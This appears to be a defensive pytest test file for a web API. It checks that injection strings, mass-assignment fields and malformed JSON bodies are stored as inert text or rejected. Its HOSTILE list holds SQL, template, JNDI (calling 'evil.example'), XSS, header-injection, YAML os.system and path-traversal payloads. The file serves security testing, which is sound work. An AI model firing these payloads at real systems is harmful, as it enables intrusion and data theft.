"""Hostile requests: S6 injection, S8 mass assignment, S10 malformed bodies."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from api.pagination import decode_cursor, encode_cursor
from api.response_envelope import success
from api.strict_json import MalformedJson, parse_strict_json
from tests.support.api import PASSWORD, ApiFixture, parse_error

HOSTILE = [
    "'; DROP TABLE users; --",
    "\" OR 1=1 /*",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "Eve\r\nBcc: everybody@example.com\r\n\r\nbody",
    "name: &a [*a]\n--- !!python/object/apply:os.system ['id']",
    "../../../../etc/passwd",
    "%s%s%s%n %(x)s :name",
    "\u202egnp.exe\u2066",
]  # fmt: skip


@pytest.mark.scenario("S6")
async def test_hostile_names_are_stored_and_shown_as_text(api: ApiFixture) -> None:
    ada = await api.register_verified_user()
    for text in HOSTILE:
        response = await ada.http.patch("/users/me", json={"name": text, "organization": {"name": text}})
        assert response.status_code == 200, response.text
        data = (await ada.http.get("/users/me")).json()["data"]
        stored_name = data["name"]
        assert stored_name == data["organization"]["name"]
        # Nothing is interpreted, and nothing can end a header line or turn the reading direction.
        assert all(character.isprintable() for character in stored_name)
        assert [word for word in stored_name.split() if word] == stored_name.split(" ")
        visible = "".join(character if character.isprintable() else " " for character in text)
        assert stored_name.split() == visible.split()
        assert response.headers["Content-Type"] == "application/json"
    assert api.query_as_superuser("SELECT count(*) AS n FROM users") == [{"n": 1}]


@pytest.mark.scenario("S6")
async def test_hostile_text_in_other_fields_is_rejected_or_inert(api: ApiFixture) -> None:
    ada = await api.register_verified_user()
    for text in HOSTILE:
        for body in (
            {"email": text, "password": PASSWORD, "name": "Eve"},
            {"email": "eve@example.com", "password": PASSWORD, "name": "Eve", "timezone": text},
            {"email": "eve@example.com", "password": PASSWORD, "name": "Eve", "currency": text},
            {"email": "eve@example.com", "password": PASSWORD, "name": "Eve", "country": text},
        ):
            response = await api.http.post("/auth/register", json=body)
            assert (response.status_code, parse_error(response)["code"]) == (422, "VALIDATION_ERROR"), body
        response = await api.http.post("/auth/login", json={"email": text, "password": text})
        assert response.status_code == 401
        assert (await api.http.post("/auth/refresh", json={"refresh_token": text})).status_code == 401
        assert (await api.http.post("/auth/verify-email", json={"token": text})).status_code == 422
        page = await api.http.get("http://api/verify-email", params={"token": text})
        assert page.status_code == 200
        assert "<script>alert" not in page.text
        response = await ada.http.request("DELETE", "/users/me/sessions/x", params={"q": text})
        assert response.status_code == 422
        response = await ada.http.get(
            "/users/me", headers={b"User-Agent": text.encode("ascii", "ignore").split(b"\r")[0]}
        )
        assert response.status_code == 200


@pytest.mark.scenario("S6")
async def test_a_hostile_email_address_is_rejected(api: ApiFixture) -> None:
    for email in (
        "eve@example.com\r\nBcc: a@example.com", "eve@example.com,other@example.com", '"a b"@example.com',
        "Eve <eve@example.com>", "eve@exa mple.com", "eve@[127.0.0.1]", "eve@example.com\u0000",
    ):  # fmt: skip
        response = await api.http.post("/auth/register", json={"email": email, "password": PASSWORD, "name": "Eve"})
        assert response.status_code in (400, 422), email
    assert api.query_as_superuser("SELECT id FROM users") == []


@pytest.mark.scenario("S8")
async def test_a_caller_cannot_set_a_role_a_balance_or_a_verification(api: ApiFixture) -> None:
    extra: dict[str, Any] = {
        "role": "ADMINISTRATOR", "email_verified": True, "email_verified_at": "2026-01-01T00:00:00Z",
        "id": "usr_mine", "user_id": "usr_mine", "organization_id": "org_mine", "balance": 10**9, "status": "active",
        "disabled_at": None, "membership": "owner",
    }  # fmt: skip
    ada = await api.register_verified_user()
    before = _stored_accounts(api)
    for name, value in extra.items():
        registration = {"email": "eve@example.com", "password": PASSWORD, "name": "Eve", name: value}
        for response in (
            await api.http.post("/auth/register", json=registration),
            await ada.http.patch("/users/me", json={"name": "Eve", name: value}),
            await ada.http.patch("/users/me", json={"organization": {"name": "Mine", name: value}}),
        ):
            assert response.status_code == 422, name
            assert parse_error(response)["details"]["field"].rpartition(".")[2] == name
    assert (await ada.http.patch("/users/me", json={"organization": {"currency": "EUR"}})).status_code == 422
    assert _stored_accounts(api) == before


def _stored_accounts(api: ApiFixture) -> list[dict[str, Any]]:
    return [*api.query_as_superuser("SELECT * FROM users"), *api.query_as_superuser("SELECT * FROM organizations")]


def deep(levels: int) -> bytes:
    return b'{"a":' * levels + b"1" + b"}" * levels


BODIES: list[tuple[str, bytes, str, set[int]]] = [
    ("nothing", b"", "application/json", {422}),
    ("cut short", b'{"email": "a', "application/json", {400}),
    ("no JSON", b"email=a&password=b", "application/json", {400}),
    ("a form", b"email=a&password=b", "application/x-www-form-urlencoded", {422}),
    ("no type", b'{"email": "a@example.com", "password": "x"}', "", {422}),
    ("Latin-1", '{"email": "é@example.com", "password": "x"}'.encode("latin-1"), "application/json", {400}),
    ("UTF-16", '{"email": "a@example.com", "password": "x"}'.encode("utf-16"), "application/json", {400}),
    ("a byte order mark", b'\xef\xbb\xbf{"email": "a", "password": "x"}', "application/json", {400}),
    ("a key twice", b'{"email": "a@b.c", "email": "d@e.f", "password": "x"}', "application/json", {400}),
    ("a key twice inside", b'{"a": {"b": 1, "b": 2}}', "application/json", {400}),
    ("NaN", b'{"email": NaN, "password": "x"}', "application/json", {400}),
    ("infinity", b'{"email": -Infinity, "password": "x"}', "application/json", {400}),
    ("beyond a float", b'{"email": 1e999, "password": "x"}', "application/json", {400}),
    ("a long number", b'{"email": ' + b"9" * 5000 + b', "password": "x"}', "application/json", {400}),
    ("a NUL", b'{"email": "a\\u0000b", "password": "x"}', "application/json", {400}),
    ("a NUL in a key", b'{"a\\u0000b": 1}', "application/json", {400}),
    ("half a surrogate", b'{"email": "\\ud800", "password": "x"}', "application/json", {400}),
    ("deep", deep(40), "application/json", {400}),
    ("very deep", deep(20_000), "application/json", {400}),
    ("deep lists", b"[" * 100_000, "application/json", {400}),
    ("a list", b"[]", "application/json", {422}),
    ("a string", b'"hello"', "application/json", {422}),
    ("null", b"null", "application/json", {422}),
    ("large", b'{"email": "' + b"a" * 300_000 + b'", "password": "x"}', "application/json", {413}),
    ("wrong types", b'{"email": {"$gt": ""}, "password": ["x"]}', "application/json", {422}),
    ("garbage", bytes(range(256)), "application/json", {400}),
    ("garbage elsewhere", bytes(range(256)), "application/octet-stream", {422}),
]


@pytest.mark.scenario("S10")
async def test_malformed_bodies_are_rejected_with_a_code(api: ApiFixture) -> None:
    ada = await api.register_verified_user()
    for name, body, kind, statuses in BODIES:
        for client, method, path in ((api.http, "POST", "/auth/login"), (ada.http, "PATCH", "/users/me")):
            headers = {"Content-Type": kind} if kind else {}
            response = await client.request(method, path, content=body, headers=headers)
            allowed = statuses | ({200} if statuses == {422} and path == "/users/me" else set())
            assert response.status_code in allowed, (name, path, response.text)
            if response.status_code >= 400:
                codes = {400: "MALFORMED_REQUEST", 413: "PAYLOAD_TOO_LARGE", 422: "VALIDATION_ERROR"}
                assert parse_error(response)["code"] == codes[response.status_code], name


@pytest.mark.scenario("S10")
async def test_the_size_of_a_chunked_body_is_limited(api: ApiFixture) -> None:
    sent = 0

    async def pieces(count: int):  # type: ignore[no-untyped-def] # httpx takes any asynchronous iterable of bytes
        nonlocal sent
        for _ in range(count):
            sent += 1
            yield b" " * 65_536

    response = await api.http.post("/auth/login", content=pieces(10), headers={"Content-Type": "application/json"})
    assert (response.status_code, parse_error(response)["code"]) == (413, "PAYLOAD_TOO_LARGE")
    assert parse_error(response)["details"]["limit"] == 256 * 1024


@pytest.mark.scenario("S10")
async def test_paths_with_nul_or_invalid_encoding_are_rejected(api: ApiFixture) -> None:
    ada = await api.register_verified_user()
    for path, status in (
        ("/users/me/sessions/a%00b", 400), ("/users/me?x=%00", 400), ("/users/me/sessions/%ff%fe", 404),
        ("/users/me/sessions/" + "a" * 5000, 422), ("/billing/payments?subscription_id=%ff%fe", 200),
    ):  # fmt: skip
        method = "DELETE" if "sessions" in path else "GET"
        response = await ada.http.request(method, path)
        assert response.status_code == status, path


JSON = st.recursive(
    st.none() | st.booleans() | st.integers(-(10**30), 10**30) | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(st.characters(exclude_categories=["Cs"],
    exclude_characters="\x00")), inner, max_size=4),
    max_leaves=20,
)  # fmt: skip


@pytest.mark.scenario("S10")
@given(value=JSON)
@hypothesis_settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_valid_json_is_parsed_as_the_standard_library_parses_it(value: object) -> None:
    body = json.dumps(value, ensure_ascii=False).encode()
    assert parse_strict_json(body) == json.loads(body)


@pytest.mark.scenario("S10")
@given(body=st.binary(max_size=200))
@hypothesis_settings(max_examples=150, deadline=None)
def test_any_body_is_parsed_or_rejected(body: bytes) -> None:
    try:
        value = parse_strict_json(body)
    except MalformedJson:
        return
    assert json.loads(body) == value


@pytest.mark.scenario("S10")
@given(value=JSON)
@hypothesis_settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_stored_value_can_be_serialized(value: object) -> None:
    assert json.loads(bytes(success({"document": value, "at": datetime(2027, 1, 31, tzinfo=UTC)}).body)) | {
        "timestamp": ""
    } == {
        "success": True, "message": "OK", "timestamp": "",
        "data": {"document": value, "at": "2027-01-31T00:00:00Z"},
    }  # fmt: skip


@given(place=st.lists(st.integers() | st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))))
@hypothesis_settings(max_examples=60, deadline=None)
def test_cursors_survive_a_round_trip(place: list[str | int]) -> None:
    small = [part for part in place if not isinstance(part, int) or abs(part) < 2**63]
    assert decode_cursor(encode_cursor(*small)) == tuple(small)
